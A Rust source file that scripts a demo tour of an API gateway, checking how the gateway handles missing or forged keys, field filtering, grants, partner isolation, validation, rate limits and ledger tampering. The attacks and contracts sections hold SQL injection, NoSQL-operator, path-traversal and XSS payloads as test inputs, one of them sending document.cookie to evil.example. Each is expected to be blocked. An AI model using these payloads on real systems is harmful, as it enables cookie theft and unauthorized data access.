//! The stops of the tour.
//! Exports `steps`.
//! Used by the verb `demo tour`.
//! Start reading at `steps`: the order is the order of a person's questions.

use super::Check::{
    Code, EachItem, ErrorAt, Field, Has, Header, HeaderNumber, Lacks, Members, NoHeader, Status,
};
use super::{Act, Check, Step};
use crate::call::{Call, Listener};

/// What accounting may see of a work order.
const ACCOUNTING_SEES: &[&str] = &["completedAt", "customer", "id", "lines", "number", "status"];
/// A key of the right form that nobody ever made.
const NOBODYS_KEY: &str = "pk_live_00000000000000000000000000000000000000000003xC1Wz";
/// An account book's usual question.
const ORDER: &str = "/v2/work-orders/4711";

/// The whole tour.
pub fn steps() -> Vec<Step> {
    let mut all = strangers();
    all.extend(fields());
    all.extend(grants());
    all.extend(objects());
    all.extend(writes());
    all.extend(contracts());
    all.extend(attacks());
    all.extend(spellings());
    all.extend(lifecycle());
    all.extend(errors());
    all.extend(limits());
    all.extend(ledger());
    all
}

fn step(title: &'static str, shows: &'static str, act: Act, checks: Vec<Check>) -> Step {
    Step {
        title,
        shows,
        act,
        checks,
    }
}

fn post_request(description: &str) -> Call {
    let body = format!(
        r#"{{"customerId":"9","source":"crm","category":"advice","priority":"low","description":"{description}"}}"#
    );
    Call::new("POST", "/v2/service-requests")
        .by("crm")
        .json(&body)
}

fn strangers() -> Vec<Step> {
    vec![
        step(
            "No key",
            "Nothing is reachable without a credential, and the answer says how to show one.",
            Act::Call(Call::get("/v2/work-orders")),
            vec![
                Status(401),
                Code("authn.missing"),
                Header("www-authenticate", "Bearer"),
                Header("proxy-status", ""),
            ],
        ),
        step(
            "A key nobody made",
            "The right form is not enough; the same answer as for any other wrong key.",
            Act::Forged(Call::get(ORDER), NOBODYS_KEY),
            vec![Status(401), Code("authn.invalid"), Lacks("4711")],
        ),
        step(
            "A key that was revoked a moment ago",
            "Revocation holds at once: the call before it was answered, this one is not.",
            Act::Revoked(Call::get(ORDER).by("accounting")),
            vec![Status(401), Code("authn.revoked")],
        ),
    ]
}

fn fields() -> Vec<Step> {
    vec![
        step(
            "Accounting reads a completed work order",
            "The upstream sent everything it knows; what leaves is what accounting was granted.",
            Act::Call(Call::get(ORDER).by("accounting")),
            vec![
                Status(200),
                Field("status", "completed"),
                Members("", ACCOUNTING_SEES),
                Members("customer", &["id", "legalName", "taxId"]),
                Members("lines.0", &["price", "quantity", "sku"]),
                Lacks("internalNotes"),
                Lacks("unitCost"),
                Lacks("accessCode"),
                Lacks("iban"),
                Lacks("_debug"),
                NoHeader("x-powered-by"),
                NoHeader("x-backend"),
                NoHeader("proxy-status"),
            ],
        ),
        step(
            "Accounting reads one that is still in progress",
            "The same operation, another object: its status does not meet the condition of the grant, so it reads as absent.",
            Act::Call(Call::get("/v2/work-orders/4712").by("accounting")),
            vec![Status(404), Code("object.absent"), Lacks("in_progress")],
        ),
        step(
            "Accounting lists work orders",
            "Lists hold only what the condition lets through, item by item.",
            Act::Call(Call::get("/v2/work-orders?limit=30").by("accounting")),
            vec![
                Status(200),
                EachItem("status", "completed"),
                Lacks("margin"),
                Lacks("dispatcherNotes"),
            ],
        ),
    ]
}

fn grants() -> Vec<Step> {
    vec![
        step(
            "Accounting asks for customers",
            "The operation is exposed, but nobody granted it to accounting; the missing scope is named.",
            Act::Call(Call::get("/v2/customers").by("accounting")),
            vec![
                Status(403),
                Code("authz.operation_not_granted"),
                Header("www-authenticate", "insufficient_scope"),
                Header("www-authenticate", "scope="),
                Lacks("crm"),
            ],
        ),
        step(
            "The CRM asks for customers",
            "The same operation with a grant: fields for sales, no credit limits and no accounts.",
            Act::Call(Call::get("/v2/customers?limit=5").by("crm")),
            vec![
                Status(200),
                Has("legalName"),
                Lacks("creditLimit"),
                Lacks("paymentToken"),
                Lacks("erased"),
            ],
        ),
        step(
            "Accounting tries the internal listener",
            "Another listener, the same rules: technicians are exposed there, but not granted to accounting.",
            Act::Call(
                Call::get("/v2/technicians")
                    .by("accounting")
                    .at(Listener::Internal),
            ),
            vec![Status(403), Code("authz.operation_not_granted")],
        ),
        step(
            "The CRM asks for technicians from outside",
            "An internal operation does not exist on the public side.",
            Act::Call(Call::get("/v2/technicians").by("crm")),
            vec![Status(404), Code("route.not_found"), Lacks("technician\"")],
        ),
        step(
            "A stolen inventory key from another address",
            "The key is right, the place is not: it is good only from the warehouse.",
            Act::Call(Call::get("/v2/parts").by("inventory").from([127, 0, 9, 9])),
            vec![
                Code("authn.address_not_allowed"),
                Lacks("sku"),
                Lacks("unitCost"),
            ],
        ),
    ]
}

fn objects() -> Vec<Step> {
    vec![
        step(
            "A partner reads its own work order",
            "North Star sees what it needs on site; no prices, no door codes, no notes.",
            Act::Call(Call::get(ORDER).by("north-star")),
            vec![
                Status(200),
                Field("assignment.partnerId", "north-star"),
                Lacks("price"),
                Lacks("accessCode"),
                Lacks("hourlyCost"),
            ],
        ),
        step(
            "A partner asks for another partner's work order, and for one that does not exist",
            "Not one byte tells the two apart: what is not yours is not there.",
            Act::Twins(
                Call::get("/v2/work-orders/4712").by("north-star"),
                Call::get("/v2/work-orders/888888").by("north-star"),
            ),
            vec![Status(404), Lacks("4712"), Lacks("blue-river")],
        ),
        step(
            "A partner lists work orders",
            "The upstream knows no owners; the list holds only this partner's.",
            Act::Call(Call::get("/v2/work-orders?limit=60").by("blue-river")),
            vec![
                Status(200),
                EachItem("assignment.partnerId", "blue-river"),
                Lacks("north-star"),
            ],
        ),
        step(
            "A partner searches by a text it may not see in full",
            "Which orders are found would tell a word of hidden fields, letter by letter; the parameter is refused by its name.",
            Act::Call(Call::get("/v2/work-orders?q=boiler").by("blue-river")),
            vec![
                Status(403),
                Code("authz.parameter_not_granted"),
                ErrorAt("q", "notGranted"),
                Lacks("items"),
            ],
        ),
        step(
            "A partner asks for another partner's work orders",
            "Its own name is written into every question of this kind; another one is refused.",
            Act::Call(Call::get("/v2/work-orders?partnerId=north-star").by("blue-river")),
            vec![Status(403), Code("authz.value_fixed"), Lacks("items")],
        ),
        step(
            "A partner asks by a field it sees",
            "The status is among its fields, so it may ask by it: whole pages, of its own orders only.",
            Act::Call(Call::get("/v2/work-orders?status=completed&limit=5").by("blue-river")),
            vec![
                Status(200),
                EachItem("status", "completed"),
                EachItem("assignment.partnerId", "blue-river"),
                Lacks("north-star"),
            ],
        ),
        step(
            "A sensor asks about somebody else's plant",
            "thermo may read the plants it watches, and no others.",
            Act::Call(Call::get("/v2/assets/20002").by("thermo")),
            vec![Status(404), Lacks("serial")],
        ),
    ]
}

fn writes() -> Vec<Step> {
    let patch = |body| Call::new("PATCH", ORDER).by("accounting").json(body);
    vec![
        step(
            "Accounting writes its booking number",
            "The one thing it may write; the work order was looked up and judged before.",
            Act::Call(patch(r#"{"externalRefs":{"accounting":"INV-204711"}}"#)),
            vec![Status(200), Field("id", "4711"), Members("", &["id", "status"])],
        ),
        step(
            "Accounting writes a priority",
            "The contract allows the member, the grant does not.",
            Act::Call(patch(r#"{"priority":"emergency"}"#)),
            vec![Status(400), Code("validate.body"), Has("/priority")],
        ),
        step(
            "A plant reports its temperature",
            "Machines write too: only readings, only of their own plants.",
            Act::Call(
                Call::new("POST", "/v2/assets/20001/readings")
                    .by("thermo")
                    .json(r#"{"at":"2026-11-20T10:00:00Z","metric":"flow_temperature","value":54.50,"unit":"celsius"}"#),
            ),
            vec![Status(202), Field("assetId", "20001")],
        ),
    ]
}

fn contracts() -> Vec<Step> {
    vec![
        step(
            "A body that does not match the contract",
            "Both mistakes are named with their place and a fix; `role` would have made the careless upstream an admin.",
            Act::Call(
                Call::new("PATCH", "/v2/customers/9")
                    .by("crm")
                    .json(r#"{"email":7,"role":"admin"}"#),
            ),
            vec![
                Status(400),
                Code("validate.body"),
                Header("content-type", "application/problem+json"),
                ErrorAt("/email", "type"),
                ErrorAt("/role", "additionalProperties"),
            ],
        ),
        step(
            "The same member twice",
            "Two readers could read two different bodies, so nobody reads it.",
            Act::Call(
                Call::new("PATCH", "/v2/customers/9")
                    .by("crm")
                    .json(r#"{"name":"Fenwick Dairy","name":"Redfern Dairy"}"#),
            ),
            vec![Status(400)],
        ),
        step(
            "A parameter of the wrong shape",
            "An attack against a value with a pattern ends here, by shape alone.",
            Act::Call(Call::get("/v2/work-orders?number=WO-2026-04711%27%20OR%201=1").by("crm")),
            vec![
                Status(400),
                Code("validate.query"),
                Has("number"),
                Lacks("OR 1"),
            ],
        ),
    ]
}

fn attacks() -> Vec<Step> {
    vec![
        step(
            "SQL injection in free text",
            "Free text has no shape to check, so it is inspected; the payload is not echoed.",
            Act::Call(post_request(
                "x' UNION SELECT password FROM users WHERE '1'='1",
            )),
            vec![
                Status(403),
                Code("inspect.sqli"),
                Has("description"),
                Lacks("UNION SELECT"),
            ],
        ),
        step(
            "Its innocent twin",
            "O'Brien may select seats from the union: words are no attack.",
            Act::Call(post_request("O'Brien; select seats from the union")),
            vec![Status(201), Field("status", "new")],
        ),
        step(
            "SQL injection in a search",
            "The same eyes look at parameters.",
            Act::Call(Call::get("/v2/customers?q=x%27%20OR%20%271%27%3D%271").by("crm")),
            vec![Status(403), Code("inspect.sqli"), Lacks("items")],
        ),
        step(
            "A NoSQL operator where a text belongs",
            "The contract says text; an object with an operator is none.",
            Act::Call(
                Call::new("PATCH", "/v2/customers/9")
                    .by("crm")
                    .json(r#"{"name":{"$ne":null}}"#),
            ),
            vec![Status(400), Code("validate.body"), ErrorAt("/name", "type")],
        ),
        step(
            "A script for whoever reads the request",
            "Cross-site scripting in free text.",
            Act::Call(post_request(
                "<script>fetch('//evil.example/'+document.cookie)</script>",
            )),
            vec![Status(403), Code("inspect.xss"), Lacks("<script>")],
        ),
    ]
}

fn spellings() -> Vec<Step> {
    vec![
        step(
            "Dot segments in the path",
            "A path with two readings is refused, never repaired.",
            Act::Call(Call::get("/v2/work-orders/../technicians").by("accounting")),
            vec![Status(400), Code("http.malformed")],
        ),
        step(
            "The same, encoded",
            "Every spelling of it.",
            Act::Call(Call::get("/v2/work-orders/%2e%2e/technicians").by("accounting")),
            vec![Status(400), Code("http.malformed")],
        ),
        step(
            "A method the contract does not declare",
            "The path exists, the method does not.",
            Act::Call(Call::new("DELETE", ORDER).by("accounting")),
            vec![Status(405), Code("route.method_not_allowed")],
        ),
    ]
}

fn lifecycle() -> Vec<Step> {
    vec![
        step(
            "A retired version",
            "Gone, and the answer says where to.",
            Act::Call(Call::get("/v0/work-orders").by("accounting")),
            vec![
                Status(410),
                Code("lifecycle.retired"),
                Header("link", "successor-version"),
                Header("link", "/v2"),
            ],
        ),
        step(
            "A deprecated version",
            "It works, and says since when it is deprecated and when it ends.",
            Act::Call(Call::get("/v1/work-orders/4711").by("accounting")),
            vec![
                Status(200),
                Header("deprecation", "@"),
                Header("sunset", "2027"),
                Header("link", "successor-version"),
                Members("", &["done_at", "id", "net_amount", "no", "state"]),
            ],
        ),
    ]
}

fn errors() -> Vec<Step> {
    vec![step(
        "The upstream falls over",
        "It answered with its stack, an address and a password; the caller reads none of it.",
        Act::Call(Call::get("/v2/work-orders/4999").by("accounting")),
        vec![
            Status(502),
            Lacks("pricing.bolt"),
            Lacks("postgres://"),
            Lacks("winter-2019"),
            Lacks("fieldworks"),
            NoHeader("x-powered-by"),
            NoHeader("x-backend"),
        ],
    )]
}

/// Callers share it in these steps; `inventory` accepts calls from here.
const SHARED_ADDRESS: [u8; 4] = [127, 0, 2, 200];

fn limits() -> Vec<Step> {
    let call = || {
        Call::get("/v2/parts?limit=1")
            .by("noisy")
            .from(SHARED_ADDRESS)
    };
    vec![
        step(
            "A client that calls too often",
            "Its own limit stops it, and says when to come back.",
            Act::Burst(call(), 40),
            vec![
                Status(429),
                Code("limit.exceeded"),
                HeaderNumber("retry-after", 1, 60),
            ],
        ),
        step(
            "It asks again and again for what it may not have",
            "Repeated refusals block this credential for a while; the block ends by itself and says when.",
            Act::Blocked(
                Call::get("/v2/customers").by("noisy").from(SHARED_ADDRESS),
                80,
            ),
            vec![
                Status(429),
                Code("limit.blocked"),
                HeaderNumber("retry-after", 1, 900),
            ],
        ),
        step(
            "Meanwhile somebody else at the same address",
            "One noisy client takes nothing from the others.",
            Act::Call(
                Call::get("/v2/parts?limit=1")
                    .by("inventory")
                    .from(SHARED_ADDRESS),
            ),
            vec![Status(200), Has("sku")],
        ),
    ]
}

fn ledger() -> Vec<Step> {
    vec![
        step(
            "The ledger",
            "Every answer above is in it, in order.",
            Act::Ledger { is_tampered: false },
            Vec::new(),
        ),
        step(
            "The ledger after somebody helped",
            "One byte changed in a copy: found, and the record named.",
            Act::Ledger { is_tampered: true },
            Vec::new(),
        ),
    ]
}
